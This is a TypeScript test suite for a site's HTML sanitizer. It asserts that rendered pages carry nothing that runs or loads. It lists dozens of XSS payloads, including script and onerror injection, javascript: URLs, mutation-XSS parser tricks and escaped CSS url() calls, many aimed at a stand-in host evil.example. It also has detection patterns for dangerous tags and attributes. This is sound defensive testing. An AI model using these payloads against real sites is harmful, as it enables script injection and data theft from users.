import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { html, parse } from 'parse5';
import { cssReferences } from '../../../src/core/page/cssReferences.ts';
import {
  attributeOf,
  elementsIn,
  templateContent,
  textOf,
  type PageElement,
} from '../../../src/core/sitePage/tree.ts';
import { NO_URLS, sample, shellFrom, siteUrls, VIEW } from './pages.ts';

const TEXT = 'The kettle sings before the town is up.';
const BODY = `<div class="content"><p>${TEXT}</p></div>`;

function shownHtml(inBody: string, inHead = '', behind = ''): string {
  const html = `<!doctype html><html onload="pwned()"><head>${inHead}</head><body onload="pwned()">${inBody}${BODY}${behind}</body></html>`;
  const shell = shellFrom(sample('posts/tea.md', { title: 'Tea', tags: ['tea'] }, TEXT, html));
  const contents = shell.contentsFor(VIEW, { urlOf: siteUrls });
  return shell.toHtml({ urlOf: siteUrls, head: '', end: '' }) + JSON.stringify(contents);
}

const RUNS =
  /^(?:script|iframe|frame|frameset|object|embed|applet|portal|fencedframe|base|noscript|handler)$/i;
const LOADS =
  /^(?:src|srcset|poster|background|data|action|formaction|manifest|ping|srcdoc|dynsrc|lowsrc|imagesrcset|icon|classid|codebase|archive)$/;
const OURS = /^(?:res:\/[^]*|data:(?:image|font)\/[^]*|data:,)$/;

/** All that could run or load something, as a browser would read the page. */
function dangers(page: string): readonly string[] {
  const found: string[] = [];
  const look = (element: PageElement): void => {
    const name = element.tagName.toLowerCase();
    if (RUNS.test(name)) found.push(`<${name}>`);
    if (name === 'meta' && element.attrs.some((a) => a.name === 'http-equiv'))
      found.push('<meta http-equiv>');
    if (
      /^(?:animate|set)/.test(name) &&
      /href|^on/i.test(attributeOf(element, 'attributeName') ?? 'href')
    )
      found.push(`<${name}>`);
    if (name === 'style') checkCss(textOf(element), found);
    for (const { name: attribute, value } of element.attrs) {
      const plain = attribute.toLowerCase();
      const at = `${name}[${attribute}=${value}]`;
      if (plain.startsWith('on') || plain === 'srcdoc' || plain === 'autofocus') found.push(at);
      if (plain === 'style' || !isHtml(element)) checkCss(value, found);
      if (plain === 'href' && !/^(?:a|area)$/.test(name) && !/^(?:#|res:\/|data:image)/.test(value))
        found.push(at);
      if (plain === 'href' && !/^(?:#|\/|https?:|mailto:|tel:|res:)/i.test(value)) found.push(at);
      if (LOADS.test(plain)) {
        const urls =
          plain === 'srcset'
            ? value.split(/\s*,\s+/).map((one) => one.split(/\s/)[0] ?? '')
            : [value];
        found.push(...urls.filter((url) => !OURS.test(url)).map((url) => `${at}: ${url}`));
      }
    }
    const content = templateContent(element);
    if (content) for (const inner of elementsIn(content)) look(inner);
  };
  for (const element of elementsIn(parse(page))) look(element);
  return found;
}

/** Attributes of drawings are CSS, those of HTML are not. */
function isHtml({ namespaceURI }: PageElement): boolean {
  return namespaceURI === html.NS.HTML;
}

function checkCss(css: string, found: string[]): void {
  for (const { reference } of cssReferences(css)) {
    if (!OURS.test(reference) && !reference.startsWith('#')) found.push(`css ${reference}`);
  }
  if (/image-set\(\s*["']/i.test(css)) found.push(`css ${css}`);
  if (/\\(?:0*(?:75|72|6c|40|55|52|4c)\b|[ul])/i.test(css.replace(/"[^"]*"|'[^']*'/g, '')))
    found.push(`css ${css}`);
}

const VECTORS: readonly string[] = [
  '<script>pwned()</script><script src="/a.js"></script><script type=module>import "x"</script>',
  '<img src=x onerror=pwned()><svg onload=pwned()><g/onclick=pwned()></svg>',
  '<a href="javascript:pwned()">a</a><a href=" java\nscript:pwned()">b</a><a href="data:text/html,x">c</a><a href="vbscript:x">d</a>',
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>pwned()</script>"></iframe><object data="/x.swf"></object><embed src="/x.swf"><portal src="/x"></portal>',
  '<form action="https://evil.example/" autofocus><input autofocus name=a><button formaction="/x">send</button><input type=image src="//evil.example/i.png"></form>',
  '<svg><use href="https://evil.example/x.svg#a"/><use xlink:href="/y.svg#b"/><image href="//evil.example/i.png"/><feImage href="//evil.example/f"/><script>pwned()</script><foreignObject><script>pwned()</script><img src="//e/x" onerror=pwned()></foreignObject></svg>',
  '<svg><a id=x><animate attributeName=href values="javascript:pwned()"/><set attributeName="onclick" to="pwned()"/></a><style>@import "//evil.example/s.css"; a{background:url(//evil.example/b)}</style></svg>',
  '<svg><rect fill="url(https://evil.example/p.svg#a)" mask="url(//evil.example/m)" filter="u\\72l(//evil.example/f)"/></svg>',
  '<style>@import "https://evil.example/a.css"; @\\69mport "//evil.example/b.css"; a{background:url(https://evil.example/b)} b{background:u\\72l(//evil.example/c)} c{background:image-set("//evil.example/d" 1x)}</style>',
  '<p style="background:url(//evil.example/a);background:\\75 rl(//evil.example/b)">x</p>',
  '<video poster="//evil.example/p" src="//evil.example/v"><source src="//evil.example/s"><track src="//evil.example/t"></video><audio src="https://evil.example/a" autoplay></audio>',
  '<picture><source srcset="//evil.example/a 1x, https://evil.example/b 2x"><img srcset="//evil.example/c 2x" data-src="javascript:x"></picture>',
  '<body background="//evil.example/b"><table background="//evil.example/t"><tr><td background="//evil.example/d">x</table>',
  '<link rel=import href="/x.html"><link rel=preload as=script href="/x.js"><link rel=modulepreload href="/x.js"><link rel=stylesheet href="//evil.example/x.css"><link rel=stylesheet href="data:text/css,a{}"><link rel="manifest" href="/m"><link rel=dns-prefetch href="//evil.example">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<template><script>pwned()</script></template><div><template shadowrootmode=open><img src=x onerror=pwned()><style>@import "//evil.example/x"</style></template></div>',
  '<xmp><img src=x onerror=pwned()></xmp><listing>&lt;img src=x onerror=pwned()&gt;</listing><noembed><img src=x onerror=pwned()></noembed><noframes><script>pwned()</script></noframes>',
  '<textarea></textarea><textarea><img src=x onerror=pwned()></textarea><title><img src=x onerror=pwned()></title>',
  '<div data-galley-body data-galley-slot=0><template data-galley-end></template></div><!--galley-slot 0--><!--[if IE]><script>pwned()</script><![endif]-->',
  '<style>a::after{content:"</style><script>pwned()</script>"}</style><style>/*<script>*/</style>',
  '<select><option><script>pwned()</script></select><select><svg><script>pwned()</script></select>',
  '<img src="\\\\evil.example\\x"><img src="/\\evil.example/x"><img src="https:evil.example/x"><img src="ht\ntps://evil.example/x"><img src="blob:x"><img src="file:///etc/passwd">',
  '<isindex action="javascript:pwned()"><keygen autofocus><marquee onstart=pwned()>x</marquee><bgsound src="//evil.example/a">',
  '<p title="&quot;&gt;<script>pwned()</script>">Tea</p><h1 x"onmouseover=pwned() y=\'>Tea</h1><h1><b>Tea</b></h1>',
  '<style>a{background:u@import "x";rl(//evil.example/a)}</style>',
  '<style>a{b:"\n}c{background:url(//evil.example/a)}d{e:"}</style>',
  '<style>/*"*/a{background:u\\72l(//evil.example/a)}</style>',
  '<style>a{--x:"//evil.example/a";background:image-set(var(--x) 1x)}</style>',
  '<style>a{b:my-url(/*)&amp url(//evil.example/a)*/)}</style>',
  '<svg><style>a{background:&amp;#117;rl(//evil.example/a)}</style></svg>',
  '<svg><rect mask="image-set(\'//evil.example/m\' 1x)" cursor="-webkit-image-set(\'//evil.example/c\' 1x)"/></svg>',
  '<plaintext><script>pwned()</script>',
];

const HEADS: readonly string[] = [
  '<base href="https://evil.example/"><img src="x.png">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<script>navigator.serviceWorker.register("/sw.js")</script><link rel="manifest" href="/m.json">',
  '<link rel="stylesheet" href="/ok.css" onload="pwned()"><link rel=preload as=style href="//evil.example/x.css" onload="this.rel=\'stylesheet\'"><noscript><link rel=stylesheet href="//evil.example/y.css"></noscript>',
];

const FIXTURES = path.join(path.dirname(fileURLToPath(import.meta.url)), '../../fixtures/hostile');

describe('a hostile page of the site', () => {
  for (const vector of VECTORS) {
    it(`is harmless with ${vector.slice(0, 60)}`, () => {
      assert.deepEqual(dangers(shownHtml(vector)), []);
      assert.deepEqual(dangers(shownHtml('', '', vector)), []);
    });
  }
  for (const head of HEADS) {
    it(`is harmless with ${head.slice(0, 60)} in its head`, () => {
      assert.deepEqual(dangers(shownHtml('', head)), []);
    });
  }
  for (const file of fs.readdirSync(FIXTURES).filter((name) => name !== 'README.md')) {
    it(`is harmless with the cases of ${file}`, () => {
      const cases = fs.readFileSync(path.join(FIXTURES, file), 'utf8').split(/^%%.*$/m);
      for (const each of cases) assert.deepEqual(dangers(shownHtml(each)), [], each);
    });
  }

  it('loads nothing that is not known', () => {
    const shell = shellFrom(
      sample(
        'posts/tea.md',
        { title: 'Tea' },
        TEXT,
        `<body style="background:url(/b.png)"><img src="/a.png" alt="A">${BODY}`,
      ),
    );
    assert.match(
      shell.toHtml({ ...NO_URLS, head: '', end: '' }),
      /<body style="background:url\(&quot;data:,&quot;\)"><img alt="A">/,
    );
  });

  it('is harmless whatever it is made of', () => {
    const bit = fc.constantFrom(
      ...'< > " \' = / </ <!-- --> <![CDATA[ ]]> & ; \\ \n \0'.split(' '),
      ...'svg math style title p table tr td a b form select option textarea mtext mglyph foreignObject desc noscript template xmp plaintext'
        .split(' ')
        .flatMap((tag) => [`<${tag}>`, `</${tag}>`, `<${tag} `]),
      '<img src=x onerror=pwned()>',
      '<script>pwned()</script>',
      'href=javascript:pwned()',
      'style="a:url(//e)"',
      'onclick=pwned()',
    );
    fc.assert(
      fc.property(fc.array(bit, { maxLength: 25 }), (bits) => {
        assert.deepEqual(dangers(shownHtml(bits.join(''))), []);
      }),
      { numRuns: 300 },
    );
  });
});
